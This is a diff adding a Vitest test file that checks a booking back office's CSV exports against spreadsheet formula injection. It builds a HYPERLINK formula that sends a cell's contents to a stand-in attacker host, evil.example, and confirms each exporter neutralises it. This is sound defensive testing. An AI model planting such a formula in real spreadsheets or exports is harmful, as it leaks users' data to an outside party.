@@ -1,0 +1,106 @@
+/// <reference types="vite/client" />
+import { everyDay } from '@courtside/domain';
+import { afterEach, describe, expect, test, vi } from 'vitest';
+import type { BookingRecord } from './bookings/types.ts';
+import type { FacilityRecord } from './facilities/types.ts';
+import type { MessageRecord } from './messages/types.ts';
+import type { PaymentRecord } from './payments/types.ts';
+import type { UserRecord } from './users/types.ts';
+import { exporters, type ExportedResource } from './exports.ts';
+
+/** What a spreadsheet runs as a formula when a cell starts with it. */
+const PREFIXES = ['=', '+', '-', '@', '\t', '\r'] as const;
+const payload = (prefix: string) => `${prefix}HYPERLINK("http://evil.example/?"&A1,"Click")`;
+
+/**
+ * One record of each resource with every free-text field (names, emails, subjects, ...) set to
+ * `text` (`as`: the wire shapes grow fields these columns need not read).
+ */
+const recordsWith = (text: string) => ({
+  users: { id: 'u1', _id: 'u1', name: text, email: text, phone: text, address: text, photoUrl: text, role: 'user' } as UserRecord,
+  messages: { id: 'm1', name: text, email: text, subject: text, message: text, createdAt: '2026-05-01T10:00:00.000Z' } as MessageRecord,
+  facilities: {
+    id: 'f1', _id: 'f1', name: text, location: text, description: text, imageUrl: text, pricePerHour: 20, isDeleted: false,
+    timezone: 'America/New_York', openingHours: everyDay(), slotMinutes: 60, maxBookingMinutes: 240,
+  } as FacilityRecord,
+  bookings: {
+    id: 'b1', _id: 'b1', facility: { _id: 'f1', name: text, location: text, pricePerHour: 20, timezone: 'America/New_York' }, user: { _id: 'u1', name: text, email: text },
+    date: '2026-05-02', startTime: '10:00', endTime: '11:00', payableAmount: 20, status: 'confirmed', paymentStatus: 'paid',
+    holdExpiresAt: null, createdAt: '2026-05-01T10:00:00.000Z', refundedAmount: 0, refundState: 'none',
+  } as BookingRecord,
+  payments: {
+    id: 'p1', user: { id: 'u1', name: text, email: text }, provider: 'sandbox', status: 'paid', amount: 20, refundedAmount: 0, refundState: 'none',
+    flagReason: text, flagResolvedAt: null, flagResolvedBy: { id: 'u2', name: text }, providerRef: text, createdAt: '2026-05-01T10:00:00.000Z', paidAt: null,
+    bookings: [{ id: 'b1', facilityName: text, date: '2026-05-02', startTime: '10:00', endTime: '11:00', payableAmount: 20, status: 'confirmed', paymentStatus: 'paid' }],
+    refunds: [],
+  } as PaymentRecord,
+});
+
+/**
+ * Runs a list's real exporter and answers the file it downloads: react-admin's downloadCSV
+ * makes a Blob and clicks a hidden link, so the test gives it a document that keeps both.
+ */
+async function download(resource: ExportedResource, records: unknown[]): Promise<{ filename: string; header: string; rows: string[] }> {
+  let blob: Blob | undefined;
+  const attrs: Record<string, string> = {};
+  const link = { style: {}, setAttribute: (k: string, v: string) => void (attrs[k] = v), click: () => {} };
+  vi.stubGlobal('document', { createElement: () => link, body: { appendChild: () => {} } });
+  vi.stubGlobal('window', { navigator: {} });
+  vi.spyOn(URL, 'createObjectURL').mockImplementation((b) => {
+    blob = b as Blob;
+    return 'blob:test';
+  });
+  (exporters[resource] as (r: unknown[]) => void)(records);
+  if (!blob) throw new Error(`${resource}: the exporter downloaded nothing`);
+  const [header, ...rows] = (await blob.text()).split('\n');
+  return { filename: attrs.download ?? '', header: header!, rows };
+}
+
+/** The cells of one CSV line in which every cell is quoted, as ours are. */
+const cells = (line: string) => [...line.matchAll(/"((?:[^"]|"")*)"/g)].map((m) => m[1]!.replace(/""/g, '"'));
+
+afterEach(() => {
+  vi.unstubAllGlobals();
+  vi.restoreAllMocks();
+});
+
+describe('every list exports through the neutralising CSV writer', () => {
+  for (const resource of Object.keys(exporters) as ExportedResource[]) {
+    test(`${resource}: text starting with = + - @ tab or CR gets an apostrophe, nothing else changes`, async () => {
+      for (const prefix of PREFIXES) {
+        const text = payload(prefix);
+        const { filename, header, rows } = await download(resource, [recordsWith(text)[resource]]);
+        expect(filename).toBe(`${resource}.csv`);
+        expect(header).toMatch(/^id,/);
+        expect(rows).toHaveLength(1);
+        const row = cells(rows[0]!);
+        expect(row).toHaveLength(header.split(',').length);
+        // No cell a spreadsheet would run; the free-text cells are the text behind an apostrophe.
+        for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
+        const neutralised = row.filter((c) => c === `'${text}`);
+        expect(neutralised.length, `${resource} ${JSON.stringify(prefix)}: ${JSON.stringify(row)}`).toBeGreaterThanOrEqual(2);
+        // The same text without the formula start is written as it is, in as many cells.
+        const plain = cells((await download(resource, [recordsWith(text.slice(1))[resource]])).rows[0]!);
+        expect(plain.filter((c) => c === text.slice(1))).toHaveLength(neutralised.length);
+      }
+    });
+  }
+
+  test('numbers are data, not formulas: a negative amount stays a number', async () => {
+    const { rows } = await download('facilities', [{ ...recordsWith('Court 1').facilities, pricePerHour: -20 }]);
+    expect(cells(rows[0]!)).toContain('-20');
+  });
+
+  test('every list in the back office takes its exporter from `exporters`', () => {
+    // The sources as text (Vite's glob import; the back office reads no files itself).
+    const app = import.meta.glob<string>('./App.tsx', { query: '?raw', import: 'default', eager: true })['./App.tsx']!;
+    const lists = import.meta.glob<string>('./*/*List.tsx', { query: '?raw', import: 'default', eager: true });
+    const resources = [...app.matchAll(/<Resource name="(\w+)"/g)].map((m) => m[1]!);
+    expect(resources.sort()).toEqual(Object.keys(exporters).sort());
+    for (const resource of resources) {
+      const files = Object.keys(lists).filter((path) => path.startsWith(`./${resource}/`));
+      expect(files, resource).not.toEqual([]);
+      for (const file of files) expect(lists[file], file).toContain(`exporter={exporters.${resource}}`);
+    }
+  });
+});
